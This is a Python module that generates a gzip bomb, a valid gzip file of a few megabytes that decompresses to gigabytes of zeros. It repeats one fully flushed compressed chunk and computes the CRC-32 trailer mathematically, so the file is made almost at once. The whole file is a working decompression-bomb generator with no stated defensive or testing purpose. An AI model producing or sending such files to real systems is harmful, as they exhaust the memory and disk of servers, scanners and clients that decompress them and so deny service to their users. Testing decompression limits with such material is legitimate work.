"""A gzip bomb: gigabytes of zeros in a thousandth of that, a valid file made in a moment."""

import zlib

_CHUNK_BYTES = 100_000_000
_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\x03"
_POLYNOMIAL = 0xEDB88320
_ALL = 0xFFFFFFFF


def gzip_bomb(size_bytes: int) -> bytes:
    """One gzip member (RFC 1952) of so many zeros, which must be hundreds of millions."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers to what is before, so the same bytes may come again and again.
    chunk = packer.compress(bytes(_CHUNK_BYTES)) + packer.flush(zlib.Z_FULL_FLUSH)
    count, rest = divmod(size_bytes, _CHUNK_BYTES)
    if rest:
        raise ValueError(f"a bomb is a multiple of {_CHUNK_BYTES:,} bytes")
    tail = crc_of_zeros(size_bytes).to_bytes(4, "little") + (size_bytes & _ALL).to_bytes(4, "little")
    return _HEAD + chunk * count + packer.flush() + tail


def crc_of_zeros(count: int) -> int:
    """The CRC-32 of so many zeros, without going through them: their bits are a power of x."""
    power, square, bits = 1 << 31, 1 << 30, 8 * count
    while bits:
        if bits & 1:
            power = _product(square, power)
        square = _product(square, square)
        bits >>= 1
    return _product(power, _ALL) ^ _ALL


def _product(first: int, second: int) -> int:
    """Of two polynomials, modulo that of CRC-32; the highest bit is the coefficient of 1."""
    found, bit = 0, 1 << 31
    while bit:
        if first & bit:
            found ^= second
        second = (second >> 1) ^ _POLYNOMIAL if second & 1 else second >> 1
        bit >>= 1
    return found
